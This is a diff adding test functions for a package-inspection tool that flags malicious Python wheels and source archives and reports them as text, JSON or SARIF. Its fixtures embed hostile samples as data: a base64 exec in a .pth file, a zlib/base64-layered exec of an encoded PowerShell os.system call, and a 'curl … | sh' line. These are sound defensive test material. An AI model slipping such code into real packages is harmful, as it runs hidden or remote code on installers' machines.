@@ -1,9 +1,20 @@
 """`tidewaiter inspect`: any readable archive, folders and descriptors; three formats; stable exit codes."""
 
+import base64
+import bz2
+import gzip
+import hashlib
+import io
 import json
+import lzma
 import os
+import pty
+import subprocess
+import urllib.parse
+import zipfile
+import zlib
 
-from harness import binary, run
+from harness import binary, clean_env, run
 from packages import tar_bytes, zip_bytes
 
 PTH = b"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
@@ -96,3 +107,127 @@ def test_sarif_and_explain(tmp_path):
     assert inspect("--explain", "nothing").returncode == 2
     text = inspect(evil).stdout
     assert "malicious" in text and "pkg.pth:1" in text and "\x1b" not in text
+
+
+def test_any_readable_archive_is_judged(tmp_path):
+    """Packed as no upload may be, under any name, and archives of archives."""
+    plain = tar_bytes([(f"pkg-1.0/{path}", data) for path, data in EVIL], mode="w:")
+    packed = {
+        "pkg-1.0.tar.bz2": bz2.compress(plain),
+        "pkg-1.0.tar.xz": lzma.compress(plain),
+        "pkg-1.0.tgz": gzip.compress(plain),
+        "no-name": bz2.compress(plain),
+        "pkg.txt": lzma.compress(plain, preset=9),
+        "outer.zip": zip_bytes([("inner.tar.xz", lzma.compress(plain))]),
+        "outer.tar": tar_bytes([("a.tar.bz2", bz2.compress(plain))], mode="w:"),
+    }
+    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w", method) as archive:
+            for path, data in whole(EVIL):
+                archive.writestr(path, data)
+        packed[f"method-{method}.whl"] = out.getvalue()
+    for name, data in packed.items():
+        (tmp_path / name).write_bytes(data)
+        code, [found] = answers(tmp_path / name)
+        nested = name.startswith("outer")
+        assert code == (0 if nested and found["verdict"] in ("clear", "review") else 1), (name, found)
+        assert nested or any(f["check"] == "pth-imports" for f in found["findings"]), (name, found)
+    (tmp_path / "nothing").write_bytes(b"this is no archive")
+    code, [found] = answers(tmp_path / "nothing")
+    assert code == 1 and found["verdict"] == "hold"
+
+
+def test_keys_are_exactly_those_that_are_promised(tmp_path):
+    evil = tmp_path / "evil.whl"
+    evil.write_bytes(zip_bytes(whole(EVIL)))
+    _, [found] = answers(evil)
+    assert set(found) == {"file", "sha256", "verdict", "findings", "degraded"}
+    assert found["sha256"] == hashlib.sha256(evil.read_bytes()).hexdigest()
+    for finding in found["findings"]:
+        assert finding["severity"] in ("note", "low", "medium", "high", "critical")
+        assert finding["confidence"] in ("low", "medium", "high") and isinstance(finding["version"], int)
+        if finding["location"]:
+            assert set(finding["location"]) == {"member", "line", "column", "layer"}
+            assert isinstance(finding["location"]["layer"], list)
+
+
+def test_what_stands_in_a_layer_is_shown(tmp_path):
+    """A person sees under which encodings a finding stands, and how it reads there."""
+    hidden = "import os\nos.system('powershell -NoProfile -EncodedCommand UABhAHUAcwBlAGQAIABmAG8AcgAgAGEAIABtAG8AbQBlAG4AdAA=')\n"
+    layer = base64.b64encode(zlib.compress(hidden.encode())).decode()
+    text = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{layer}')))\n"
+    evil = tmp_path / "pkg-1.0-py3-none-any.whl"
+    evil.write_bytes(zip_bytes(whole([("pkg/__init__.py", text.encode())])))
+    shown = inspect(evil).stdout
+    assert "(decoded: base64, zlib)" in shown and "= | " in shown, shown
+    assert "os.system('powershell" in shown
+    _, [found] = answers(evil)
+    inside = [f for f in found["findings"] if f["location"] and f["location"]["layer"] == ["base64", "zlib"]]
+    assert inside and all(f["decoded"] for f in inside), found
+
+
+def test_a_sibling_that_differs_is_told(tmp_path):
+    source, wheel = tmp_path / "pkg-1.0.tar.gz", tmp_path / "pkg-1.0-py3-none-any.whl"
+    source.write_bytes(tar_bytes([("pkg-1.0/pkg/__init__.py", b"x = 1\n"), ("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n")]))
+    wheel.write_bytes(zip_bytes(whole([("pkg/__init__.py", b"import subprocess\nsubprocess.run(['true'])\n")])))
+    assert answers(wheel)[1][0]["verdict"] == "clear"
+    _, [found] = answers("--sibling", source, wheel)
+    assert found["verdict"] == "review" and {f["check"] for f in found["findings"]} >= {"sibling-divergence"}
+    assert inspect("--sibling", tmp_path / "missing", wheel).returncode == 2
+
+
+def test_sarif_keeps_to_its_schema(tmp_path):
+    """The parts of SARIF 2.1.0 that readers stumble over: required members, enumerations, references."""
+    odd = tmp_path / "odd name é.whl"
+    odd.write_bytes(zip_bytes(whole([*EVIL, ("pkg/a b#c.py", b"import os\nos.system('curl https://example.org/a | sh')\n")])))
+    (tmp_path / "clean.whl").write_bytes(zip_bytes(whole(CLEAN)))
+    log = json.loads(inspect("--format", "sarif", odd, tmp_path / "clean.whl").stdout)
+    assert log["version"] == "2.1.0" and set(log) <= {"$schema", "version", "runs"}
+    [one] = log["runs"]
+    driver = one["tool"]["driver"]
+    assert driver["name"] and all(rule["shortDescription"]["text"] and rule["help"]["text"] for rule in driver["rules"])
+    assert one["columnKind"] in ("utf16CodeUnits", "unicodeCodePoints")
+    assert len({rule["id"] for rule in driver["rules"]}) == len(driver["rules"])
+    assert one["results"]
+    for result in one["results"]:
+        assert result["level"] in ("none", "note", "warning", "error") and result["message"]["text"]
+        if "ruleIndex" in result:
+            assert driver["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
+        assert len(set(result["properties"]["tags"])) == len(result["properties"]["tags"])
+        for location in result["locations"]:
+            uri = location["physicalLocation"]["artifactLocation"]["uri"]
+            assert urllib.parse.urlsplit(uri).fragment == "" and " " not in uri and uri.isascii(), uri
+            region = location["physicalLocation"].get("region", {})
+            assert region.get("startLine", 1) >= 1 and region.get("startColumn", 1) >= 1
+
+
+def test_colours_are_for_terminals(tmp_path):
+    evil = tmp_path / "evil.whl"
+    evil.write_bytes(zip_bytes(whole(EVIL)))
+    for wish, coloured in ({}, True), ({"NO_COLOR": "1"}, False):
+        ours, theirs = pty.openpty()
+        env = {key: value for key, value in clean_env().items() if key != "NO_COLOR"} | wish
+        done = subprocess.run([binary(), "inspect", evil], stdout=theirs, stderr=subprocess.DEVNULL, env=env, timeout=60)
+        os.close(theirs)
+        shown = b""
+        try:
+            while part := os.read(ours, 65536):
+                shown += part
+        except OSError:
+            pass
+        os.close(ours)
+        assert done.returncode == 1 and (b"\x1b[31m" in shown) == coloured and b"pkg.pth:1" in shown
+
+
+def test_many_files_and_one_that_is_missing(tmp_path):
+    """Each is told in its turn; one that cannot be opened makes the code 2, and hides nothing of the others."""
+    paths = []
+    for number in range(12):
+        paths.append(tmp_path / f"pkg-1.{number}-py3-none-any.whl")
+        paths[-1].write_bytes(zip_bytes(whole(EVIL if number == 5 else CLEAN)))
+    done = inspect("--format", "json", *paths[:6], tmp_path / "missing", *paths[6:])
+    lines = [json.loads(line) for line in done.stdout.splitlines()]
+    assert [line["file"] for line in lines] == [str(path) for path in paths]
+    assert done.returncode == 2 and "missing" in done.stderr
+    assert [line["verdict"] for line in lines].count("clear") == 11
